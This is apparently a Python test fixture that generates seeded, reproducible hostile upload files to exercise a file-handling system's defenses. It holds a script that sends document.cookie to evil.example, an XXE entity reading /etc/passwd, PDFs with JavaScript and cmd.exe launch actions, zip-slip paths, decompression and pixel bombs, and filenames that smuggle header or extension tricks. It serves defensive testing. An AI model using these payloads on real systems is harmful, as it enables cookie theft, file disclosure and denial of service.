"""Files of people who mean harm: each kind in endless variants, the same for the same seed."""

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass

from tests.scoring.filing.papers import pdf, picture, script_pdf

SCRIPT = b"<script>document.title='RAN';fetch('https://evil.example/'+document.cookie)</script>"
XML_HEAD = b'<?xml version="1.0"?>'
CONTENT_TYPES = "[Content_Types].xml"


@dataclass(frozen=True)
class Hostile:
    kind: str
    name: str
    data: bytes


def _html(r: random.Random) -> bytes:
    head = r.choice(
        [b"", b"<!doctype html>", b"\xef\xbb\xbf", b" " * r.randrange(600), b"<!--" + b"x" * r.randrange(900) + b"-->"]
    )
    return head + b"<html><body onload=alert(%d)>" % r.randrange(999) + SCRIPT


def _svg(r: random.Random) -> bytes:
    return b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(%d)">%s</svg>' % (r.randrange(999), SCRIPT)


def _xhtml(r: random.Random) -> bytes:
    style = b'<?xml-stylesheet href="https://evil.example/%d.xsl"?>' % r.randrange(999)
    entity = b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
    return (
        XML_HEAD + r.choice([b"", style, entity]) + b'<html xmlns="http://www.w3.org/1999/xhtml">' + SCRIPT + b"</html>"
    )


def _mhtml(r: random.Random) -> bytes:
    edge = b"edge%d" % r.randrange(9999)
    return (
        b"MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=%s\r\n\r\n--%s\r\nContent-Type: text/html\r\n\r\n%s"
        % (edge, edge, SCRIPT)
    )


def _pdf_polyglot(r: random.Random) -> bytes:
    """A PDF that is a page of HTML, a zip or a script as well: before, inside or behind."""
    whole = pdf(b"0 0 %d %d re f" % (r.randrange(1, 500), r.randrange(1, 800)))
    other = r.choice([SCRIPT, _html(r), _zip(r), b"MZ" + r.randbytes(200), b"GIF89a" + r.randbytes(40)])
    return r.choice(
        [whole + other, other + whole, whole[:9] + other + whole[9:], whole[:9] + b"%" + other + b"\n" + whole[9:]]
    )


def _active_pdf(r: random.Random) -> bytes:
    action = r.choice(
        [
            b"/S /JavaScript /JS (app.alert\\(1\\))",
            b"/S /Launch /F (cmd.exe)",
            b"/S /J#61vaScript /JS (x)",
            b"/S /URI /URI (https://evil.example)",
        ]
    )
    return r.choice(
        [
            script_pdf(),
            pdf(catalog=b"/OpenAction 5 0 R", extra=(b"<< %s >>" % action,)),
            pdf(catalog=b"/Names << /EmbeddedFiles 5 0 R >>", extra=(b"<< /Names [] >>",)),
        ]
    )


def _locked_pdf(r: random.Random) -> bytes:
    return b"%%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R/Encrypt %d 0 R>>\n%%%%EOF" % r.randrange(
        2, 99
    )


def _mutated_pdf(r: random.Random) -> bytes:
    return _mutated(r, pdf(*[b"0 0 %d 99 re f" % at for at in range(1, r.randrange(2, 6))]))


def _heavy_pdf(r: random.Random) -> bytes:
    """Cheap to send, dear to draw: giant pages, pages within pages, streams that grow a thousandfold."""
    size = r.choice(["1 1", "14400 14400", "1 14400", "0 0", "-5 9", "1e9 1e9", "595 842"])
    content = b"q 1 0 0 1 0 0 cm 0 0 9 9 re f Q\n" * r.choice([1, 1000, 60_000])
    loop = b"<< /Type /Pages /Kids [2 0 R 5 0 R] /Count 99999999 /Parent 5 0 R >>"
    return r.choice(
        [
            pdf(content, size=size),
            pdf(b"x" * 3_000_000),
            pdf(extra=(loop,)).replace(b"3 0 R", b"5 0 R"),
            pdf(b"(" * 100_000),
        ]
    )


def _mutated(r: random.Random, data: bytes) -> bytes:
    changed = bytearray(data)
    for _time in range(r.randrange(1, 40)):
        at = r.randrange(8, len(changed)) if len(changed) > 9 else 0
        how = r.randrange(4)
        if how == 0:
            changed[at] = r.randrange(256)
        elif how == 1:
            del changed[at : at + r.randrange(1, 30)]
        elif how == 2:
            changed[at:at] = r.randbytes(r.randrange(1, 30))
        else:
            changed[at:at] = r.choice([b"99999999999", b"-1", b"\0" * 9, b"endobj", b"<<" * 50, b"/Kids [1 0 R]"])
    return bytes(changed)


def _zip(r: random.Random, **members: bytes) -> bytes:
    """Its members bear no date of today (ZipInfo): the same seed gives the same bytes at any time."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(zipfile.ZipInfo(name), content, zipfile.ZIP_DEFLATED)
        archive.writestr(zipfile.ZipInfo(f"a{r.randrange(9)}"), SCRIPT, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def _office(r: random.Random, *more: tuple[str, bytes], main: str = "word/document.xml") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in [(CONTENT_TYPES, b"<Types/>"), (main, XML_HEAD + b"<x>%d</x>" % r.randrange(999)), *more]:
            archive.writestr(zipfile.ZipInfo(name), content, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def _macro_office(r: random.Random) -> bytes:
    return _office(
        r,
        (
            r.choice(["word/vbaProject.bin", "WORD/VBAPROJECT.BIN", "word/vbaData.xml", "a/b/vbaProject.bin"]),
            r.randbytes(30),
        ),
    )


def _bad_names_office(r: random.Random) -> bytes:
    return _office(r, (r.choice(["../../x", "/etc/passwd", "C:\\x", "a/../../b", "..\\x"]), b"x"))


def _bomb_office(r: random.Random) -> bytes:
    how = r.randrange(3)
    if how == 0:
        return _office(r, ("word/big.xml", bytes(r.randrange(30, 60) * 1_000_000)))
    if how == 1:
        return _office(r, *[(f"word/{at}.xml", b"") for at in range(2100)])
    data = bytearray(_office(r))
    at = data.rfind(b"PK\x01\x02")
    struct.pack_into("<I", data, at + 24, r.choice([2**31, 2**32 - 1, 300 * 2**20]))  # lies about what it unpacks to
    return bytes(data)


def _mutated_office(r: random.Random) -> bytes:
    return _mutated(r, _office(r, main=r.choice(["word/document.xml", "xl/workbook.xml"])))


def _picture_polyglot(r: random.Random) -> bytes:
    whole = picture((r.randrange(1, 60), r.randrange(1, 60)), r.choice(["PNG", "JPEG"]))
    return r.choice(
        [
            whole + SCRIPT,
            b"GIF89a/*" + SCRIPT + b"*/=1;" + whole,
            whole[:33] + SCRIPT + whole[33:],
            picture(kind="JPEG", comment=SCRIPT),
        ]
    )


def _pixel_bomb(r: random.Random) -> bytes:
    width, height = r.choice([(50_000, 50_000), (2**31 - 1, 1), (6_400, 6_400), (0, 9), (100_000, 399)])
    head = struct.pack(">IIBBBBB", width, height, r.choice([1, 8, 16]), r.choice([0, 2, 3, 6]), 0, 0, 0)

    def chunk(name: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))

    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", zlib.compress(bytes(100_000)))
        + chunk(b"IEND", b"")
    )


def _mutated_picture(r: random.Random) -> bytes:
    mode = r.choice(["RGB", "RGBA", "L", "P", "1"])
    return _mutated(r, picture((r.randrange(1, 300), r.randrange(1, 300)), "PNG", mode))


def _cut(r: random.Random) -> bytes:
    whole = r.choice([pdf(), picture(), picture(kind="JPEG"), _office(r)])
    return whole[: r.randrange(len(whole))]


def _noise(r: random.Random) -> bytes:
    return r.choice(
        [b"", b"\0", b"%PDF-", b"%PDF-1.4", b"PK\x03\x04", b"\x89PNG\r\n\x1a\n", b"\xff\xd8\xff", b"MZ\x90", b"\x7fELF"]
    ) + r.randbytes(r.randrange(300))


KINDS: dict[str, Callable[[random.Random], bytes]] = {
    one.__name__.strip("_"): one
    for one in (
        _html, _svg, _xhtml, _mhtml, _pdf_polyglot, _active_pdf, _locked_pdf, _mutated_pdf, _heavy_pdf, _macro_office,
        _bad_names_office, _bomb_office, _mutated_office, _picture_polyglot, _pixel_bomb, _mutated_picture, _cut, _noise,
    )
}  # fmt: skip
_ENDINGS = (
    ".pdf", ".png", ".jpg", ".docx", ".xlsx", ".PDF", ".pdf.exe", ".html", ".svg", ".pdf\0.html", ".docm", "", ".", ".pdf ",
    ".pdf\u202efdp.exe", ".jpeg",
)  # fmt: skip
_FITTING = {"pdf": ".pdf", "office": ".docx", "picture": ".png", "pixel": ".png"}
_BEGINNINGS = (
    "a",
    "báo cáo",
    "../../x",
    "..\\x",
    "/etc/x",
    "C:\\x",
    "CON",
    ".htaccess",
    "x" * 300,
    'a"b',
    "a\r\nSet-Cookie: x",
    "\u202e",
    "<script>",
    "%00",
)


def _name(r: random.Random, kind: str) -> str:
    """Mostly an ending that lets the content come far."""
    fitting = next((ending for word, ending in _FITTING.items() if word in kind), ".pdf")
    return r.choice(_BEGINNINGS) + (fitting if r.random() < 0.7 else r.choice(_ENDINGS))


def hostile_files(count: int, seed: int = 20260226) -> Iterator[Hostile]:
    """`count` files, each kind in turn."""
    r, kinds = random.Random(seed), list(KINDS)
    for at in range(count):
        kind = kinds[at % len(kinds)]
        yield Hostile(kind, _name(r, kind), KINDS[kind](r))
